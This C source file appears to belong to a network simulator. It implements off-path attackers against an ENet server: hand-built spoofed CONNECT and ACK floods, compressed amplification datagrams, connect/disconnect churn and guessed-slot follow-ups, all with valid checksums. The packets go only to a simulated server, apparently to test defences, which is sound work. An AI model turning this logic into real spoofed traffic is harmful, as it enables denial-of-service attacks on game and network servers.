/* Off-path attackers (see attack.h). They build ENet datagrams by hand, with the stock
   range coder and enet_crc32 where the server compresses or checksums. */
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include "attack.h"
#include "client.h"
#include "wire.h"

const char * const attack_names [ATK_KINDS] = { "connect", "ack", "connect+acks", "compressed", "garbage", "pile" };

static sim_rng rng;
static attack_config cfg;
static sim_ep server;
static uint32_t slots;
static int checksum, compress;
static uint32_t victims [64];
static int victimCount;
static int (* honest) (sim_ep);
static uint64_t sent [ATK_KINDS];

/* What the attacker remembers of its own recent forged CONNECTs (it sent them, so it knows
   them): their source, connect ID and client peer ID, to aim ACK guesses and follow-ups. */
typedef struct { sim_ep src; uint32_t cid; uint16_t peer; } forged;
static forged recent [64];
static int recentCount, recentNext;

typedef struct { uint32_t time; sim_ep src; uint32_t cid; uint16_t slot; } followup;
static followup * followups;

/* ATK_PILE: its endpoint (drawn at its first datagram, never honest), the connect ID of its
   last CONNECT, and whether a DISCONNECT is next. */
static sim_ep pileSource;
static uint32_t pileCid;
static int pileStarted, pileDisconnectNext;
static size_t followupCount, followupCap;

void
attack_init (uint64_t seed, const attack_config * config, sim_ep s, uint32_t n, int c, int z)
{
    rng_seed (& rng, seed);
    cfg = * config;
    server = s; slots = n; checksum = c; compress = z;
    victimCount = 0; recentCount = recentNext = 0;
    followupCount = 0;
    pileStarted = pileDisconnectNext = 0;
    memset (sent, 0, sizeof (sent));
}

void attack_add_victim (uint32_t ip) { if (victimCount < 64) victims [victimCount ++] = ip; }
void attack_set_honest_filter (int (* f) (sim_ep)) { honest = f; }
uint64_t attack_sent (int kind) { return sent [kind]; }

/* A forged source: a victim's IP with a random port, or any address of 100.64.0.0/10 (where
   neither the server nor the honest clients are), never an honest client's exact endpoint. */
static sim_ep
source (void)
{
    sim_ep ep;
    do
    {
       if (victimCount > 0 && rng_chance (& rng, cfg.victimShare))
         ep.ip = victims [rng_below (& rng, victimCount)];
       else
         ep.ip = 0x64400000u | rng_below (& rng, 0x400000u);
       ep.port = (uint16_t) rng_range (& rng, 1024, 65535);
    } while (honest != NULL && honest (ep));
    return ep;
}

/* The header: peer ID with flags and session, the sent time, and room for the checksum. */
static size_t
header (uint8_t * out, uint16_t peerID, uint8_t session, int sentTime, int compressed)
{
    uint16_t field = (uint16_t) (peerID | (session & 3) << HDR_SESSION_SHIFT | (sentTime ? HDR_FLAG_SENT_TIME : 0) | (compressed ? HDR_FLAG_COMPRESSED : 0));
    size_t n = 2;
    wr16 (out, field);
    if (sentTime) { wr16 (out + 2, (uint16_t) rng_next (& rng)); n = 4; }
    if (checksum) { memset (out + n, 0, 4); n += 4; }
    return n;
}

/* Fills the checksum as a receiver holding cid checks it (over the uncompressed commands). */
static void
seal (uint8_t * datagram, size_t headerSize, const uint8_t * commands, size_t length, uint32_t cid)
{
    uint8_t buffer [4200];
    uint32_t sum;
    if (! checksum) return;
    memcpy (buffer, datagram, headerSize);
    memcpy (buffer + headerSize - 4, & cid, 4);
    memcpy (buffer + headerSize, commands, length);
    sum = stock_crc32 (buffer, headerSize + length);
    memcpy (datagram + headerSize - 4, & sum, 4);
}

static uint16_t
forged_peer_id (void)
{
    switch (cfg.peerIdMode)
    {
    case 0: return (uint16_t) rng_below (& rng, 4);
    case 1: return 0xFFF;
    default: return rng_chance (& rng, 0.5) ? 0xFFF : (uint16_t) rng_below (& rng, 4096);
    }
}

/* A CONNECT command as enet_host_connect builds it, with random identities. */
static size_t
connect_command (uint8_t * c, uint32_t * cid, uint16_t * peer)
{
    memset (c, 0, SIZE_CONNECT);
    c [0] = CMD_CONNECT | CMD_FLAG_ACKNOWLEDGE;
    c [1] = 0xFF;
    wr16 (c + 2, 1);
    * peer = forged_peer_id ();
    wr16 (c + 4, * peer);
    c [6] = rng_chance (& rng, 0.5) ? 0xFF : (uint8_t) rng_below (& rng, 4);
    c [7] = rng_chance (& rng, 0.5) ? 0xFF : (uint8_t) rng_below (& rng, 4);
    wr32 (c + 8, 1392);
    wr32 (c + 12, 65536);
    wr32 (c + 16, rng_chance (& rng, 0.9) ? rng_range (& rng, 1, 8) : rng_range (& rng, 1, 255));
    wr32 (c + 28, 5000);
    wr32 (c + 32, 2);
    wr32 (c + 36, 2);
    * cid = (uint32_t) rng_next (& rng);
    memcpy (c + 40, cid, 4);
    wr32 (c + 44, (uint32_t) rng_next (& rng));
    return SIZE_CONNECT;
}

static void
remember (sim_ep src, uint32_t cid, uint16_t peer)
{
    recent [recentNext].src = src; recent [recentNext].cid = cid; recent [recentNext].peer = peer;
    recentNext = (recentNext + 1) % 64;
    if (recentCount < 64) ++ recentCount;
}

static size_t
ack_command (uint8_t * c)
{
    c [0] = CMD_ACKNOWLEDGE;
    c [1] = 0xFF;
    wr16 (c + 2, 1);
    wr16 (c + 4, 1);
    wr16 (c + 6, (uint16_t) rng_next (& rng));
    return SIZE_ACKNOWLEDGE;
}

/* A slot an attacker would aim at: any slot, or one of the first few (a host fills its slots
   from 0 and records offer the free ones round-robin). */
static uint16_t
likely_slot (void)
{
    if (rng_chance (& rng, 0.5)) return (uint16_t) rng_below (& rng, slots);
    return (uint16_t) rng_below (& rng, slots < 4 ? slots : 4);
}

static void
add_followup (uint32_t time, sim_ep src, uint32_t cid, uint16_t slot)
{
    if (followupCount == followupCap)
    {
       followupCap = followupCap ? followupCap * 2 : 64;
       followups = realloc (followups, followupCap * sizeof (followup));
    }
    followups [followupCount].time = time; followups [followupCount].src = src;
    followups [followupCount].cid = cid; followups [followupCount].slot = slot;
    ++ followupCount;
}

void
attack_fire (int kind)
{
    uint8_t d [4200], commands [4096];
    size_t n = 0, h, length = 0;
    uint32_t cid;
    uint16_t peer;
    sim_ep src;

    ++ sent [kind];
    switch (kind)
    {
    case ATK_CONNECT:
       src = source ();
       h = header (d, 0xFFF, 0, 1, 0);
       length = connect_command (d + h, & cid, & peer);
       seal (d, h, d + h, length, 0);
       n = h + length;
       remember (src, cid, peer);
       break;

    case ATK_ACK:
    {
       /* At its own recent forged handshake (it knows the source and connect ID, so even a
          checksum passes), or blind at a random source. */
       int own = recentCount > 0 && rng_chance (& rng, 0.6);
       int acks = (int) rng_range (& rng, 1, (uint32_t) cfg.acksPerDatagram);
       forged f = own ? recent [rng_below (& rng, (uint32_t) recentCount)] : (forged) { source (), (uint32_t) rng_next (& rng), 0 };
       src = f.src;
       h = header (d, likely_slot (), (uint8_t) rng_below (& rng, 4), 1, 0);
       for (int i = 0; i < acks; ++ i) length += ack_command (d + h + length);
       seal (d, h, d + h, length, f.cid);
       n = h + length;
       break;
    }

    case ATK_CONNECT_ACKS:
    {
       /* One datagram: the CONNECT makes a half-open peer, then its ACKs are processed
          against that peer with no slot to guess. */
       int acks = (int) rng_range (& rng, 1, (uint32_t) cfg.acksPerDatagram);
       src = source ();
       h = header (d, 0xFFF, 0, 1, 0);
       length = connect_command (d + h, & cid, & peer);
       for (int i = 0; i < acks; ++ i) length += ack_command (d + h + length);
       seal (d, h, d + h, length, 0);
       n = h + length;
       remember (src, cid, peer);
       break;
    }

    case ATK_COMPRESSED:
    {
       /* A CONNECT and hundreds of identical PINGs, range-coded: tens of bytes on the wire,
          over a thousand once decompressed. Then tiny datagrams (a bare header) to the slots
          it may have been given, which an unverified address's credit answers. */
       size_t pings = rng_range (& rng, 100, 300), z;
       src = source ();
       length = connect_command (commands, & cid, & peer);
       if (cfg.peerIdMode != 0) { peer = 0xFFF; wr16 (commands + 4, 0xFFF); }
       for (size_t i = 0; i < pings; ++ i, length += SIZE_PING)
       {
          commands [length] = CMD_PING | CMD_FLAG_ACKNOWLEDGE; commands [length + 1] = 0xFF;
          wr16 (commands + length + 2, 2);
       }
       h = header (d, 0xFFF, 0, 1, compress);
       z = compress ? stock_compress (commands, length, d + h, sizeof (d) - h) : 0;
       if (z == 0) { z = SIZE_CONNECT; memcpy (d + h, commands, z); length = z; }
       seal (d, h, commands, length, 0);
       n = h + z;
       remember (src, cid, peer);
       for (int round = 0; round < 7; ++ round)
         for (uint32_t slot = 0; slot < (slots < 2 ? slots : 2); ++ slot)
           add_followup (simnet_now () + 20 + 30 * round + slot, src, cid, (uint16_t) slot);
       break;
    }

    case ATK_PILE:
       if (! pileStarted)
       {
          double share = cfg.victimShare;
          cfg.victimShare = 0;
          pileSource = source ();
          cfg.victimShare = share;
          pileStarted = 1;
       }
       src = pileSource;
       if (! pileDisconnectNext)
       {
          h = header (d, 0xFFF, 0, 1, 0);
          length = connect_command (d + h, & pileCid, & peer);
          wr16 (d + h + 4, 0xFFF);   /* no session is checked for a client without a peer id */
          seal (d, h, d + h, length, 0);
       }
       else
       {
          /* the record offers the first free unreserved slot, or a free reserved or unverified
             one at the cursor: blind, a likely one */
          h = header (d, likely_slot (), 0, 0, 0);
          d [h] = CMD_DISCONNECT | CMD_FLAG_UNSEQUENCED; d [h + 1] = 0xFF;
          wr16 (d + h + 2, 0); wr32 (d + h + 4, 0);
          length = SIZE_DISCONNECT;
          seal (d, h, d + h, length, pileCid);
       }
       pileDisconnectNext = ! pileDisconnectNext;
       n = h + length;
       break;

    default:
       src = source ();
       n = rng_range (& rng, 1, 120);
       for (size_t i = 0; i < n; ++ i) d [i] = (uint8_t) rng_next (& rng);
       break;
    }
    simnet_inject (src, server, d, n, attack_names [kind]);
}

uint32_t
attack_next_followup (void)
{
    uint32_t best = UINT32_MAX;
    for (size_t i = 0; i < followupCount; ++ i)
      if (followups [i].time < best) best = followups [i].time;
    return best;
}

void
attack_followup (void)
{
    uint8_t d [16] = { 0 };
    size_t best = 0, h;
    if (followupCount == 0) return;
    for (size_t i = 1; i < followupCount; ++ i)
      if (followups [i].time < followups [best].time) best = i;
    followup f = followups [best];
    followups [best] = followups [-- followupCount];
    /* A bare header to the slot (no session check for client peer ID 0xFFF), checksummed with
       the attacker's own connect ID. */
    h = header (d, f.slot, 0, 0, 0);
    seal (d, h, d + h, 0, f.cid);
    simnet_inject (f.src, server, d, h, "tiny");
}
